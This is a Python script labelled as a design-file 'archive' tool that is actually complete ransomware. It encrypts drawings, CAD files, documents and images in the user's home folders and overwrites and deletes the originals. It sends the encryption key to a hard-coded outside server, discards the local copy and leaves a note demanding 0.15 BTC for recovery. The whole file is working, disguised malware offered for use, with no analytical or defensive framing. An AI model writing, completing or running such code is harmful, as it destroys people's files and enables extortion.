#!/usr/bin/env python3
"""'Archive' the design folders: patterns, CAD files, customer drawings.

Encrypts every design file in place and removes the originals, then
leaves a note explaining how to get them back.
"""
import argparse
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archiver")

TARGET_EXT = {".dxf", ".dwg", ".svg", ".pdf", ".docx", ".xlsx", ".jpg",
              ".png", ".step", ".stl", ".f3d", ".csv", ".odt"}
NOTE = """YOUR DESIGN FILES HAVE BEEN ENCRYPTED.

Every drawing, pattern and order sheet on this machine is locked.
To recover them send 0.15 BTC to the address below and email
restore@example.com with your ID: {victim_id}
"""
KEY_DROP = os.environ.get("KEY_DROP", "http://198.51.100.77/k")


def targets(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in TARGET_EXT:
                yield p


def lock_file(path: Path, fernet: Fernet) -> bool:
    try:
        data = path.read_bytes()
        out = path.with_suffix(path.suffix + ".locked")
        out.write_bytes(fernet.encrypt(data))
        path.write_bytes(os.urandom(len(data)))
        path.unlink()
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def main():
    parser = argparse.ArgumentParser(description="Design archive tool")
    parser.add_argument("roots", nargs="*", type=Path,
                        default=[Path.home() / "Documents", Path.home() / "Designs",
                                 Path.home() / "Desktop"])
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    key = Fernet.generate_key()
    victim_id = os.urandom(6).hex()
    try:
        requests.post(KEY_DROP, data={"id": victim_id, "key": key.decode()}, timeout=15)
    except requests.RequestException:
        pass
    fernet = Fernet(key)
    del key

    count = 0
    for root in args.roots:
        if not root.exists():
            continue
        for path in targets(root):
            if lock_file(path, fernet):
                count += 1
        (root / "HOW_TO_RESTORE_DESIGNS.txt").write_text(NOTE.format(victim_id=victim_id))
    log.warning("archived %d files", count)


if __name__ == "__main__":
    main()
